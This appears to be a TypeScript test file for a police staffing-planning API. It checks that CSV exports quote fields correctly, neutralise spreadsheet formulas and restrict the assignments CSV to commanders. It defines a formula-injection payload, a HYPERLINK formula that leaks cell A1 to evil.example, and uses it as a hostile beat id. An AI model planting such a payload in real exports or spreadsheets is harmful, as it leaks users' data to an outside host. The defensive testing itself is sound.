/**
 * Every CSV the API writes is RFC 4180 with OWASP formula neutralising (the engine's one
 * formatter, `csv-format.ts`): a plan imported from beats whose ids are hostile — a live
 * `=HYPERLINK(…)`, an id with a comma, a double quote and a newline — comes back through
 * `cells?format=csv` and `export?format=csv` (analyst and viewer layouts) as text that
 * `csv-parse` reads back row for row, with the formula neutralised by a leading `'`; so do
 * hostile officer ids of a roster in the assignments CSV (`staffing/{id}?format=csv`).
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BOX, createPlan, type Harness, removeDir, startHarness, uploadBasics, waitForJob } from '../testing/harness.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
const AWKWARD = 'North, "Lake"\nside';
/** Officer ids of the roster: a live formula, a comma, a double quote, a line break, a plain one. */
const OFFICERS = ['=HYPERLINK("http://x")', 'a,b', 'q"uote', 'two\nlines', 'P5', 'P6'];
/** An RFC 4180 field, quoted (no neutralising: the roster must hold the hostile text as it is). */
const quoted = (s: string) => `"${s.replace(/"/g, '""')}"`;
/** What a reader gets back for a text field: the text, with a guarding `'` before a formula start. */
const neutralised = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
let h: Harness;
let planId: string;
let cellCount: number;
let staffingId: string;

beforeAll(async () => {
  h = await startHarness();
  const data = await uploadBasics(h);
  const { west: w, south: s, east: e, north: n } = BOX;
  const m = (w + e) / 2;
  const poly = (a: number, b: number) => ({
    type: 'Polygon',
    coordinates: [
      [
        [a, s],
        [b, s],
        [b, n],
        [a, n],
        [a, s],
      ],
    ],
  });
  const beats = {
    type: 'FeatureCollection',
    features: [
      { type: 'Feature', properties: { beat: FORMULA }, geometry: poly(w, m) },
      { type: 'Feature', properties: { beat: AWKWARD }, geometry: poly(m, e) },
    ],
  };
  const up = await h.http
    .post('/api/v1/datasets/beats?idField=beat')
    .set(h.auth('analyst'))
    .set('Content-Type', 'application/geo+json')
    .send(JSON.stringify(beats));
  expect(up.status).toBe(201);
  planId = await createPlan(h, { ...data, existing: up.body.id, method: 'import', resolution: 9, name: 'hostile ids' });
  cellCount = (await h.http.get(`/api/v1/plans/${planId}/cells`).set(h.auth('analyst'))).body.rows.length;
  const lines = [
    'officer_id,name,shift,rank,current_beat,skills,available',
    ...OFFICERS.map((o, k) => `${quoted(o)},${quoted(`Name ${o}`)},${['0-8', '8-16', '16-24'][k % 3]},PO,,,true`),
  ];
  const roster = await h.http
    .post('/api/v1/datasets/rosters')
    .set(h.auth('commander'))
    .set('Content-Type', 'text/csv')
    .send(`${lines.join('\n')}\n`);
  expect(roster.status, JSON.stringify(roster.body)).toBe(201);
  const job = await h.http.post(`/api/v1/plans/${planId}/staffing`).set(h.auth('commander')).send({ roster: roster.body.id });
  const done = await waitForJob(h, job.body.id, 60_000);
  expect(done.status, JSON.stringify(done)).toBe('succeeded');
  staffingId = (done.result as { staffingId: string }).staffingId;
}, 120_000);

afterAll(async () => {
  await h.close();
  removeDir(h.dir);
});

describe('CSV answers: RFC 4180 quoting and formula neutralising', () => {
  for (const role of ['analyst', 'viewer'] as const) {
    for (const route of ['cells?format=csv', 'export?format=csv']) {
      it(`${route} as ${role}: hostile beat ids round-trip as text`, async () => {
        const r = await h.http.get(`/api/v1/plans/${planId}/${route}`).set(h.auth(role));
        expect(r.status).toBe(200);
        expect(r.headers['content-type']).toMatch(/^text\/csv/);
        const rows = parse(r.text, { columns: true }) as Array<Record<string, string>>;
        expect(rows.length).toBe(cellCount);
        const ids = new Set(rows.map((x) => x.beat));
        expect(ids).toEqual(new Set([`'${FORMULA}`, AWKWARD]));
        expect(rows.filter((x) => x.beat === AWKWARD).length).toBeGreaterThan(10);
        // no field a spreadsheet would evaluate: every field starting with = + - @ TAB CR is a plain number
        for (const x of rows)
          for (const v of Object.values(x)) if (/^[=+\-@\t\r]/.test(v)) expect(Number.isFinite(Number(v)), v).toBe(true);
        // the raw text holds the formula only after the neutralising quote
        expect(r.text).not.toMatch(/(^|,)=HYPERLINK/m);
      });
    }
  }
});

describe('the assignments CSV (staffing/{id}?format=csv): hostile beat and officer ids', () => {
  it('round-trips as text, one row per officer, with the staffing.json figures', async () => {
    const json = await h.http.get(`/api/v1/plans/${planId}/staffing/${staffingId}`).set(h.auth('commander'));
    expect(json.status).toBe(200);
    const r = await h.http.get(`/api/v1/plans/${planId}/staffing/${staffingId}?format=csv`).set(h.auth('commander'));
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toMatch(/^text\/csv/);
    expect(r.headers['content-disposition']).toMatch(/^attachment; filename="?assignments-[0-9a-f]{8}-v1\.csv"?$/);
    expect(r.text.split('\n')[0]).toBe('beat,district,shift,officer,required,allocated,vehicle');
    const rows = parse(r.text, { columns: true }) as Array<Record<string, string>>;
    type Shift = { shift: string; required: number; allocated: number; officers: string[] };
    const beats = json.body.beats as Array<{ id: string; shifts: Shift[] }>;
    const expected = beats.flatMap((b) =>
      b.shifts.flatMap((s) =>
        (s.officers.length ? s.officers : ['']).map((o) => [
          neutralised(b.id),
          s.shift,
          neutralised(o),
          String(s.required),
          String(s.allocated),
        ]),
      ),
    );
    expect(rows.map((x) => [x.beat, x.shift, x.officer, x.required, x.allocated])).toEqual(expected);
    expect(new Set(rows.map((x) => x.beat))).toEqual(new Set([`'${FORMULA}`, AWKWARD]));
    // every officer of the roster is assigned (6 officers, 2 beats × 3 shifts) and comes back as text
    expect(new Set(rows.map((x) => x.officer))).toEqual(new Set(OFFICERS.map(neutralised)));
    for (const x of rows) for (const v of Object.values(x)) if (/^[=+\-@\t\r]/.test(v)) expect(Number.isFinite(Number(v)), v).toBe(true);
    expect(r.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('is for commanders, and an unknown format is refused by name', async () => {
    const path = `/api/v1/plans/${planId}/staffing/${staffingId}`;
    expect((await h.http.get(`${path}?format=csv`).set(h.auth('analyst'))).status).toBe(403);
    const bad = await h.http.get(`${path}?format=xlsx`).set(h.auth('commander'));
    expect(bad.status).toBe(400);
    expect(JSON.stringify(bad.body)).toContain('query.format');
  });
});
